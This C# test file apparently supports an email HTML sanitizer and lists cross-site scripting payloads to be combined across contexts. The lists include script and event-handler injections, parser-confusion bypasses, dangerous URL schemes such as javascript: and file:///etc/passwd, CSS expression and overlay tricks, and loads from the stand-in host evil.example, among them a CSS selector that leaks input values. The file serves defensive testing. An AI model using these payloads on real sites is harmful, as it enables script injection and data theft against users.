namespace Services83.EMail.Tests.Html;

/// <summary>
/// Ways to run a script, to load something or to cover the page, in the style of the public collections (OWASP, PortSwigger, html5sec,
/// the tests of DOMPurify): parts that are combined, so that each is tried in each place. <c>alert</c> is what must not run, and
/// <c>evil.example</c> what must not be asked.
/// </summary>
internal static class Attacks
{
    /// <summary>Whole pieces of markup.</summary>
    public static readonly string[] Pieces =
    [
        "<script>alert(1)</script>", "<script src=//evil.example/x></script>", "<script\f>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>", "<script x=\">\" src=//evil.example>",
        "<SCRIPT>alert(1)</SCRIPT>", "<\0script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<script language=vbs>alert(1)</script>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=//evil.example>", "<frameset onload=alert(1)><frame src=//evil.example>",
        "<object data=javascript:alert(1)></object>", "<object data=//evil.example><param name=movie value=//evil.example>", "<embed src=javascript:alert(1)>", "<applet code=x codebase=//evil.example>",
        "<link rel=stylesheet href=//evil.example>", "<link rel=import href=//evil.example>", "<link rel=prefetch href=//evil.example>", "<link rel=dns-prefetch href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=set-cookie content=a=b>", "<base href=//evil.example>", "<base target=_top>",
        "<style>@import '//evil.example'</style>", "<style>*{background:url(//evil.example)}</style>", "<style>*{x:expression(alert(1))}</style>", "<style><!--</style><img src=x onerror=alert(1)>-->",
        "<style>@font-face{font-family:x;src:url(//evil.example)}</style>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>", "<style></style/><img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=//evil.example></script>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/>", "<svg><image href=//evil.example></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></p>", "<svg><desc><noscript></desc></noscript><img src=x onerror=alert(1)>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math href=javascript:alert(1)>x</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src=x>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>", "<select><style></select><img src=x onerror=alert(1)></style>", "<select><iframe></select><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><script>alert(1)</script></template>", "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<!--><script>alert(1)</script>", "<!---><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=1 ?><img src=x onerror=alert(1)>", "<?import namespace=t implementation=//evil.example>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;", "</><img src=x onerror=alert(1)>", "</ <img src=x onerror=alert(1)>",
        "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>", "<img src=x onerror=alert(1)//", "<img src=x onerror=alert(1) <b>", "<img \"\"\"><script>alert(1)</script>\">", "<img src='x' title='a>' onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img\u000Bsrc=x\u000Bonerror=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<video poster=//evil.example>", "<audio src=//evil.example>", "<track src=//evil.example>", "<picture><source srcset=//evil.example><img src=x></picture>", "<img srcset='//evil.example 2x'>", "<img lowsrc=//evil.example>", "<img dynsrc=//evil.example>", "<image src=//evil.example>", "<input type=image src=//evil.example>", "<bgsound src=//evil.example>", "<isindex action=javascript:alert(1) type=image>",
        "<form action=javascript:alert(1)><input type=submit></form>", "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>", "<form><input name=attributes><input name=parentNode></form>", "<form><input name=innerHTML>", "<a id=x><a id=x name=y href='javascript:alert(1)'>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>", "<x contenteditable onblur=alert(1)>", "<x onclick=alert(1)>x</x>", "<portal src=//evil.example>", "<slot onslotchange=alert(1)>",
        "<table background=//evil.example>", "<table><td background='javascript:alert(1)'>x", "<body background=//evil.example>", "<body onload=alert(1)>", "<html onclick=alert(1)><body>", "<a ping=//evil.example href=https://a.example>x</a>", "<area href=javascript:alert(1) shape=default>", "<map name=x><area href=javascript:alert(1)></map>", "<q cite=//evil.example>x</q>", "<ins cite=javascript:alert(1)>x</ins>", "<img longdesc=javascript:alert(1)>", "<img usemap=javascript:alert(1)>", "<head profile=//evil.example>", "<html manifest=//evil.example>", "<layer src=//evil.example>", "<ilayer src=//evil.example>", "<command icon=//evil.example>", "<menu><menuitem icon=//evil.example>",
    ];

    /// <summary>What must not become the scheme of a link or an image.</summary>
    public static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\u0001javascript:alert(1)", "\u001Fjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script&colon;alert&lpar;1&rpar;", "jav&#x09;ascript:alert(1)", "&#14; javascript:alert(1)", "&#x1;javascript:alert(1)",
        "vbscript:alert(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:image/svg+xml;base64,PHN2Zy8+", "data:,alert(1)", "DATA:text/html,x", "data:image/png,<script>alert(1)</script>", "data:image/png;base64,x\"onerror=alert(1)", "data:application/xhtml+xml,x",
        "file:///etc/passwd", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "about:blank", "view-source:https://evil.example", "jar:https://evil.example!/x", "ms-its:x", "mhtml:https://evil.example", "feed:javascript:alert(1)", "intent://x#Intent;end", "ftp://evil.example", "ws://evil.example", "chrome://settings", "res://x", "skype:x?call", "search-ms:query=x", "//evil.example", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "http:/evil.example", "https:\\\\evil.example", "///evil.example", "https:///evil.example", "?x=javascript:alert(1)", "#javascript:alert(1)", "x", "/x", "", " ",
        "javascript\u200B:alert(1)", "\u00A0javascript:alert(1)", "\uFEFFjavascript:alert(1)", "javascript://evil.example/%0Aalert(1)", "javascript:/*https://*/alert(1)", "cid&colon;javascript:alert(1)", "&amp;#106;avascript:alert(1)",
    ];

    /// <summary>What must not stay of a style.</summary>
    public static readonly string[] Styles =
    [
        "width:expression(alert(1))", "width:e\\78pression(alert(1))", "width:ex/**/pression(alert(1))", "width:e\\0078 pression(alert(1))", "xss:expression(alert(1))", "behavior:url(//evil.example/x.htc)", "-moz-binding:url(//evil.example/x.xml#x)", "-o-link:'javascript:alert(1)';-o-link-source:current", "background:url(javascript:alert(1))", "background:url('java\\\nscript:alert(1)')", "background-image:\\75rl(javascript:alert(1))", "background-image:u\\72 l(//evil.example)", "background:url(//evil.example)", "background:URL( '//evil.example' )", "background:image(//evil.example)", "background:image-set('//evil.example' 1x)", "background:-webkit-image-set(url(//evil.example) 1x)", "background:cross-fade(url(//evil.example),red)", "background:element(#x)", "background:var(--x)", "--x:url(//evil.example)", "list-style:url(//evil.example)", "list-style-image:url(\"//evil.example\")", "cursor:url(//evil.example),auto", "content:url(//evil.example)", "filter:url(//evil.example#x)", "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example')", "mask:url(//evil.example)", "clip-path:url(//evil.example)", "shape-outside:url(//evil.example)", "border-image:url(//evil.example) 1", "font-family:url(//evil.example)", "src:url(//evil.example)", "@import '//evil.example'", "color:red;@import url(//evil.example);", "color:red}body{background:url(//evil.example)", "color:red</style><script>alert(1)</script>", "color:red\"onclick=\"alert(1)", "color:'\"><script>alert(1)</script>",
        "position:fixed;top:0;left:0;width:100%;height:100%", "pos\\69tion:absolute", "position:/**/fixed", "POSITION:FIXED", "z-index:9999", "top:-9999px", "margin-top:-500px", "margin:0 0 0 -100%", "margin-left:-\\31 00px", "margin:-\\31 0px", "margin-left:calc(0px - 500px)", "margin-left:min(-500px,0px)", "margin-left:1e9px", "padding:1/**/e9px", "margin-left:-.5e3px", "text-indent:-9999px", "letter-spacing:-1000px", "transform:translate(-500px,-500px)", "-webkit-transform:scale(100)", "translate:-500px", "scale:100", "rotate:1deg", "width:100vw;height:100vh", "inset:0", "clip:rect(0,0,0,0)", "animation:x 1s", "transition:all 1s", "zoom:100", "float:expression(alert(1))", "display:contents", "display:-webkit-box", "mso-x:url(//evil.example)", "background-attachment:fixed", "outline:9999px solid red", "box-shadow:0 0 0 9999px red", "pointer-events:none", "opacity:0;position:sticky", "all:unset", "anchor-name:--x", "view-transition-name:x", "color:red!important;position:fixed!important",
        "\\", "\\62", "'", "\"", "/*", "/*x", "url(", "url('", "rgb(", "color:rgb(url(//evil.example))", "color:rgb(expression(alert(1)))", "color:rgb(0,0,0", "color:red;;;:;a:b;:", "color:{}", "color:[]", "color:(", "color:)", "font:'x", "font-family:'a\\27;background:url(//evil.example)'", "font-family:'\\3c/style>'", "font-family:\"a\nb\";color:red", "color:\\3c script\\3e", "color:&lt;script&gt;",
    ];

    /// <summary>Event handlers; browsers know 100 others.</summary>
    public static readonly string[] Handlers =
    [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "ontransitionend", "onpointerenter", "onwheel", "onscroll", "oncopy", "onbeforetoggle", "oncontentvisibilityautostatechange", "onbegin", "ONERROR", "oNeRrOr", "on\0error", "onerror\0", "onerror\u000C", "onerror/", "/onerror", "\"onerror", "'onerror", "`onerror", "<onerror", "xml:onerror", "data-x onerror", "formaction", "action", "srcdoc", "xlink:href", "style onerror",
    ];

    /// <summary>Elements that may stay, so that only their attributes can be wrong.</summary>
    public static readonly string[] Hosts = ["a", "img", "p", "td", "font", "br", "table", "body", "hr"];

    /// <summary>Places for a piece, which is put where the mark is.</summary>
    public static readonly string[] Contexts =
    [
        "{0}", "a{0}b", "<p>{0}</p>", "<b><i>{0}", "<table>{0}</table>", "<table><tr>{0}</tr></table>", "<table><tr><td>{0}", "<ul>{0}</ul>", "<select>{0}</select>", "<svg>{0}</svg>", "<math><mtext>{0}", "<style>{0}</style>", "<style>{0}", "<script>{0}</script>", "<noscript>{0}</noscript>", "<textarea>{0}</textarea>", "<title>{0}</title>", "<xmp>{0}</xmp>", "<iframe>{0}</iframe>", "<!--{0}-->", "<!--[if gte IE 4]>{0}<![endif]-->", "<p title=\"{0}\">x</p>", "<p title='{0}'>x</p>", "<p title={0}>x</p>", "<p {0}>x</p>", "<{0}>", "<p><{0}", "<template>{0}</template>", "<a href=https://a.example>{0}</a>", "<body>{0}</body>", "<head>{0}</head>", "<plaintext>{0}", "<form><table><form>{0}", "<pre>\n{0}</pre>",
    ];
}
